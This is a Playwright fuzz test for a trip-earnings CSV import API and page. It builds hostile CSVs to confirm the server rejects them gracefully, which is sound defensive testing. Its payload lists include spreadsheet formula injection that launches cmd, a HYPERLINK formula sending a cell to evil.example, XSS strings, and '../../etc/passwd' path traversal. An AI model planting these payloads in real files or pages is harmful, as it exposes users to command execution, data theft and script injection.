import type { APIResponse } from "@playwright/test";
import fc from "fast-check";
import { registerViaApi, type TestUser } from "../support/accounts";
import { expect, test } from "../support/fixtures";
import {
  expectJsonAnswer,
  expectPageAnswer,
  options,
  raw,
  send,
  show,
  type RawBody,
} from "../support/fuzz";

/**
 * Hostile Trip Earnings CSVs on the trip import: `POST /api/trips/import` (as text/csv and as a
 * multipart upload) and the trips page's form post. Random bytes, lying charsets and byte-order
 * marks, cells over every cap, formula injection, quote and line-ending chaos, thousands of
 * columns, amounts and dates out of range. Every answer is below 500 with a message, and the
 * server keeps serving. With the inbound MIME fuzz (400 posts) and
 * the Stripe webhook's (1,000), more than 3,000 hostile requests in all.
 *
 * The inputs come from fast-check with the fixed seed of tests/support/fuzz.ts, and go out a
 * few at a time in parallel: the answers are checked one by one, each naming its input.
 */

test.describe.configure({ timeout: 240_000 });

const API_TEXT_RUNS = 1_000;
const API_MULTIPART_RUNS = 400;
const PAGE_RUNS = 400;
/** Requests in flight at once: enough to overlap the server's work, few enough for 2 cores. */
const BATCH = 6;

const CRLF = "\r\n";

/** The export's columns as the marketplace names them (tests/e2e/fixtures/trip-earnings-*.csv). */
const COLUMNS = [
  "Reservation ID",
  "Guest",
  "Vehicle",
  "Vehicle name",
  "Vehicle id",
  "VIN",
  "Trip start",
  "Trip end",
  "Pickup location",
  "Return location",
  "Trip status",
  "Check-in odometer",
  "Check-out odometer",
  "Distance traveled",
  "Trip days",
  "Trip price",
  "Delivery",
  "Tolls & tickets",
  "Cleaning",
  "Sales tax",
  "Total earnings",
];

/** A plausible row by column name, so many files get past the header to the cells under attack. */
function plausibleRow(index: number): Record<string, string> {
  // A small pool of reservation ids: re-imports update rather than pile up trips.
  const values = [
    String(52_009_000 + (index % 48)),
    "Priya Natarajan",
    "Silver Benz (VA #UXR4412)",
    "Mercedes-Benz C-Class 2019",
    "1184203",
    "WDDWF4KB0KR123456",
    "2026-10-02 09:30 AM",
    "2026-10-04 09:30 AM",
    "1600 Wilson Blvd, Arlington, VA 22209",
    "1600 Wilson Blvd, Arlington, VA 22209",
    "Completed",
    "34440",
    "34602",
    "162",
    "2",
    "178.00",
    "0.00",
    "0.00",
    "0.00",
    "7.12",
    "133.50",
  ];
  return Object.fromEntries(COLUMNS.map((column, i) => [column, values[i]!]));
}

const hostileCell = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      // Formula injection, as spreadsheet programs would run it.
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      "+1+1",
      "-2+3+cmd|' /C notepad'!'A1'",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      // Markup and script.
      "<script>alert(1)</script>",
      '"><img src=x onerror=alert(1)>',
      "javascript:alert(1)",
      // Quotes and line ends where they don't belong.
      '"',
      '""',
      '"unterminated',
      'a"b',
      '"a""b"c',
      'x\r\ny"',
      "\r",
      "\n\n\n",
      "\u0000",
      "\uFEFF",
      "\uFFFD\uD800",
      // Numbers and amounts out of range.
      "1e309",
      "-1e21",
      "NaN",
      "Infinity",
      "0x1F",
      "99999999999999999999",
      "$1,000,000.01",
      "1000000.01",
      "(12.50)",
      "-0",
      "١٢٣",
      // Dates a parser could trip on.
      "1899-12-31 10:00 AM",
      "275760-09-13 00:00",
      "+275760-09-13T00:00:00Z",
      "0000-00-00 00:00",
      "2026-02-30 25:61",
      "2026-03-08 02:30 AM",
      "9999-12-31 11:59 PM",
      "13/45/2026 9:30 PM",
      "2026-10-02 09:30 AM +99:99",
      "Invalid Date",
      // Statuses that aren't the export's.
      "Completed\u0000",
      "COMPLETED",
      "toString",
      "__proto__",
    ),
  },
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 501, max: 70_000 }).map((size) => "W".repeat(size)),
  },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.integer().map(String) },
);

/** A header line: the export's, a narrower one, renamed, doubled, or thousands of columns. */
const header = fc.oneof(
  { weight: 5, arbitrary: fc.constant(COLUMNS) },
  {
    weight: 2,
    arbitrary: fc.subarray(COLUMNS, { minLength: 1 }),
  },
  { weight: 1, arbitrary: fc.constant([...COLUMNS, ...COLUMNS]) },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 1_000, max: 5_000 })
      .map((count) => [...COLUMNS, ...Array.from({ length: count }, (_, i) => `Extra ${i}`)]),
  },
  { weight: 1, arbitrary: fc.array(fc.string({ maxLength: 12 }), { minLength: 1, maxLength: 8 }) },
  { weight: 1, arbitrary: fc.constant(COLUMNS.map((c) => c.toUpperCase().replace(/ /g, "_"))) },
);

const quote = (cell: string) => (/[",\r\n;\t]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);

/** Plausible rows with some cells replaced by hostile ones, sometimes left unquoted. */
const rows = fc.array(
  fc.tuple(
    // Some rows untouched, so some files are stored and the storing is exercised too.
    fc.oneof(
      { weight: 1, arbitrary: fc.constant([] as Array<[number, string]>) },
      {
        weight: 2,
        arbitrary: fc.array(fc.tuple(fc.nat({ max: COLUMNS.length + 3 }), hostileCell), {
          minLength: 1,
          maxLength: 4,
        }),
      },
    ),
    fc.boolean(),
    fc.oneof(
      { weight: 4, arbitrary: fc.constant(0) },
      { weight: 1, arbitrary: fc.integer({ min: -3, max: 3 }) },
    ),
  ),
  { maxLength: 6 },
);

const delimiter = fc.constantFrom(",", ",", ",", ";", "\t");
const lineEnd = fc.constantFrom(CRLF, "\n", "\r", "mixed");

const csvText = fc
  .tuple(header, rows, delimiter, lineEnd, fc.boolean(), fc.nat({ max: 7 }))
  .map(([names, body, sep, end, bom, block]) => {
    const lines = [names.map(quote).join(sep)];
    for (const [position, [replacements, quoted, widthChange]] of body.entries()) {
      // Ids unique within the file (a repeated one is a row error of its own).
      const plausible = plausibleRow(block * 6 + position);
      const cells = names.map((name) => plausible[name] ?? "");
      const hostile = new Set<number>();
      for (const [column, value] of replacements) {
        cells[column % cells.length] = value;
        hostile.add(column % cells.length);
      }
      // Rows one or two cells short, or long, of the header.
      if (widthChange < 0) cells.splice(widthChange);
      else for (let i = 0; i < widthChange; i++) cells.push("extra");
      // The export quotes as it must; a hostile cell may come unquoted, quotes and all.
      lines.push(
        cells.map((cell, i) => (quoted || !hostile.has(i) ? quote(cell) : cell)).join(sep),
      );
    }
    const joined =
      end === "mixed"
        ? lines.reduce((all, line, i) => all + line + [CRLF, "\n", "\r"][i % 3], "")
        : lines.join(end) + end;
    return (bom ? "\uFEFF" : "") + joined;
  });

/** The file's bytes: UTF-8 (perhaps with a mark), UTF-16 with a mark, Latin-1, or noise. */
const csvBytes: fc.Arbitrary<{ bytes: Buffer; charset: string | null; label: string }> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(csvText, fc.constantFrom(null, "utf-8", "windows-1252", "x-no-such", "utf-16"))
      .map(([text, charset]) => ({ bytes: Buffer.from(text), charset, label: "utf-8" })),
  },
  {
    weight: 1,
    arbitrary: csvText.map((text) => ({
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]),
      charset: null,
      label: "utf-16le",
    })),
  },
  {
    weight: 1,
    arbitrary: csvText.map((text) => ({
      bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, "utf16le").swap16()]),
      charset: null,
      label: "utf-16be",
    })),
  },
  {
    weight: 1,
    // A UTF-16 mark over bytes that aren't UTF-16 (an odd count, lone surrogates).
    arbitrary: fc.uint8Array({ maxLength: 301 }).map((noise) => ({
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(noise)]),
      charset: null,
      label: "utf-16 mark over noise",
    })),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(csvText, fc.constantFrom(null, "iso-8859-1")).map(([text, charset]) => ({
      // Characters past U+00FF keep their low byte: Latin-1 as a careless exporter writes it.
      bytes: Buffer.from(text, "latin1"),
      charset,
      label: "latin-1",
    })),
  },
  {
    weight: 1,
    arbitrary: fc.uint8Array({ maxLength: 2_000 }).map((noise) => ({
      bytes: Buffer.from(noise),
      charset: null,
      label: "random bytes",
    })),
  },
);

/** The zone the times are in: mostly real, sometimes not a zone at all. */
const timeZone = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom("America/Denver", "America/New_York", "UTC") },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "",
      "Mars/Olympus_Mons",
      "../../etc/passwd",
      "UTC+25",
      "America/Denver\u0000",
      "<script>alert(1)</script>",
      "x".repeat(5_000),
    ),
  },
);

/** A few files at the edges, sent once each besides the generated ones. */
function edgeFiles(): Array<{ bytes: Buffer; charset: string | null; label: string }> {
  const row = Object.values(plausibleRow(0)).map(quote).join(",");
  return [
    { bytes: Buffer.alloc(5_000_001, "a"), charset: null, label: "over 5 MB" },
    {
      bytes: Buffer.from(`${COLUMNS.join(",")}${CRLF}${"W".repeat(4_900_000)}${CRLF}`),
      charset: null,
      label: "one 4.9 MB cell",
    },
    {
      bytes: Buffer.from(
        [COLUMNS.join(","), ...Array.from({ length: 5_200 }, () => row)].join(CRLF),
      ),
      charset: null,
      label: "over 5,000 rows",
    },
    {
      bytes: Buffer.from(
        `${Array.from({ length: 60_000 }, (_, i) => `c${i}`).join(",")}${CRLF}${row}${CRLF}`,
      ),
      charset: null,
      label: "60,000 columns",
    },
    {
      bytes: Buffer.from(`"${'""'.repeat(1_000_000)}${CRLF}`),
      charset: null,
      label: "a million escaped quotes, never closed",
    },
    { bytes: Buffer.from("\uFEFF\uFEFF\uFEFF"), charset: null, label: "only marks" },
    { bytes: Buffer.from(CRLF.repeat(200_000)), charset: null, label: "only line ends" },
  ];
}

let apiHost: TestUser;
let pageHost: TestUser;
let healthChecks = 0;

test.beforeAll(async () => {
  [apiHost, pageHost] = await Promise.all([
    registerViaApi("csvfuzzapi"),
    registerViaApi("csvfuzzpage"),
  ]);
});

test.afterAll(async () => {
  await Promise.all([apiHost?.api.dispose(), pageHost?.api.dispose()]);
});

/** Sends the inputs BATCH at a time, checks each answer, and the server's health between. */
async function sendAll<T>(
  inputs: T[],
  post: (input: T) => Promise<{ response: APIResponse; what: string }>,
  check: (response: APIResponse, what: string) => Promise<void>,
  health: () => Promise<APIResponse>,
) {
  const statuses = new Map<number, number>();
  for (let start = 0; start < inputs.length; start += BATCH) {
    const answers = await Promise.all(inputs.slice(start, start + BATCH).map(post));
    for (const { response, what } of answers) {
      statuses.set(response.status(), (statuses.get(response.status()) ?? 0) + 1);
      await check(response, what);
    }
    if ((start / BATCH) % 25 === 0) {
      const healthz = await health();
      expect(healthz.status(), "healthz during the fuzz").toBe(200);
      healthChecks++;
    }
  }
  test.info().annotations.push({
    type: "answers",
    description: `${inputs.length} requests: ${JSON.stringify(Object.fromEntries(statuses))}`,
  });
  return statuses;
}

const sample = <T>(arbitrary: fc.Arbitrary<T>, numRuns: number, salt: number) =>
  fc.sample(arbitrary, { seed: options.seed + salt, numRuns });

test("POST /api/trips/import with hostile CSV as text/csv → < 500 with a message", async () => {
  const inputs = [
    ...edgeFiles().map((file) => ({ file, zone: "America/Denver" as string | null })),
    ...sample(
      fc.tuple(csvBytes, fc.option(timeZone, { nil: null, freq: 8 })),
      API_TEXT_RUNS,
      1,
    ).map(([file, zone]) => ({ file, zone })),
  ].slice(0, API_TEXT_RUNS);
  const statuses = await sendAll(
    inputs,
    async ({ file, zone }) => {
      const contentType = `text/csv${file.charset ? `; charset=${file.charset}` : ""}`;
      const input = raw(contentType, file.bytes, file.label);
      const path = `/api/trips/import${zone === null ? "" : `?timeZone=${encodeURIComponent(zone)}`}`;
      return { response: await send(apiHost.api, path, input), what: `${path} ${show(input)}` };
    },
    expectJsonAnswer,
    () => apiHost.api.get("/healthz"),
  );
  expect(
    [...statuses.keys()].every((status) => status < 500),
    JSON.stringify([...statuses]),
  ).toBe(true);
  // Both kinds of answer were reached: files stored and files refused.
  expect(statuses.get(200) ?? 0, JSON.stringify([...statuses])).toBeGreaterThan(20);
  expect(statuses.get(400) ?? 0, JSON.stringify([...statuses])).toBeGreaterThan(100);
  expect(statuses.get(413), "the file over 5 MB").toBeGreaterThanOrEqual(1);
  expect((await apiHost.api.get("/api/user")).status(), "still signed in").toBe(200);
});

/** A multipart body with the file (and perhaps a zone), built by hand to lie where it likes. */
function multipartFile(
  file: { bytes: Buffer; charset: string | null; label: string },
  fields: Record<string, string>,
  fileName: string,
): RawBody {
  const boundary = `----csvfuzz${file.bytes.length.toString(36)}`;
  const head = Object.entries(fields)
    .map(
      ([name, value]) =>
        `--${boundary}${CRLF}Content-Disposition: form-data; name="${name}"${CRLF}${CRLF}${value}${CRLF}`,
    )
    .join("");
  const type = `text/csv${file.charset ? `; charset=${file.charset}` : ""}`;
  const body = Buffer.concat([
    Buffer.from(
      `${head}--${boundary}${CRLF}Content-Disposition: form-data; name="file"; filename="${fileName}"${CRLF}Content-Type: ${type}${CRLF}${CRLF}`,
    ),
    file.bytes,
    Buffer.from(`${CRLF}--${boundary}--${CRLF}`),
  ]);
  return raw(`multipart/form-data; boundary=${boundary}`, body, `multipart ${file.label}`);
}

const fileName = fc.constantFrom(
  "trips.csv",
  "Trip Earnings.csv",
  "../../etc/passwd",
  '"><img src=x onerror=alert(1)>.csv',
  "trips.exe",
  "",
);

test("POST /api/trips/import with hostile CSV uploads → < 500 with a message", async () => {
  const inputs = sample(
    fc.tuple(csvBytes, fc.option(timeZone, { nil: undefined }), fileName),
    API_MULTIPART_RUNS,
    2,
  );
  const statuses = await sendAll(
    inputs,
    async ([file, zone, name]) => {
      const input = multipartFile(file, zone === undefined ? {} : { timeZone: zone }, name);
      const response = await send(apiHost.api, "/api/trips/import?timeZone=UTC", input);
      return { response, what: `/api/trips/import ${show(input)}` };
    },
    expectJsonAnswer,
    () => apiHost.api.get("/healthz"),
  );
  expect(statuses.get(200) ?? 0, JSON.stringify([...statuses])).toBeGreaterThan(4);
});

test("the trips page's import form with hostile CSV → < 500 with a visible message", async () => {
  const inputs = sample(fc.tuple(csvBytes, timeZone, fileName), PAGE_RUNS, 3);
  const statuses = await sendAll(
    inputs,
    async ([file, zone, name]) => {
      const input = multipartFile(file, { intent: "import", timeZone: zone }, name);
      const response = await send(pageHost.api, "/dashboard/trips", input);
      return { response, what: `/dashboard/trips ${show(input)}` };
    },
    expectPageAnswer,
    () => pageHost.api.get("/healthz"),
  );
  expect(statuses.get(302) ?? 0, JSON.stringify([...statuses])).toBeGreaterThan(10);
  expect(statuses.get(400) ?? 0, JSON.stringify([...statuses])).toBeGreaterThan(50);
  // The page still opens with what was stored.
  const page = await pageHost.api.get("/dashboard/trips");
  expect(page.status()).toBe(200);
  expect(await page.text()).not.toContain("<script>alert(1)</script>");
  expect(healthChecks).toBeGreaterThan(0);
});
